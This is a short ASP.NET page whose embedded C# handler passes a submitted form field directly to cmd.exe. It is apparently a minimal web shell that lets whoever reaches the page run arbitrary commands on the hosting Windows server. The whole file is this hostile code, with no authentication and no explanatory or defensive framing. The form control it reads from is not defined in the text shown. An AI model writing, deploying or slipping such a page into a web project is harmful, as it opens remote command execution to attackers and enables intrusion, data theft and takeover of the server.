<%@ Page Language="C#" %>
<script runat="server">
void Go(object s, EventArgs e) {
    System.Diagnostics.Process.Start("cmd.exe", "/c " + line.Value);
}
</script>
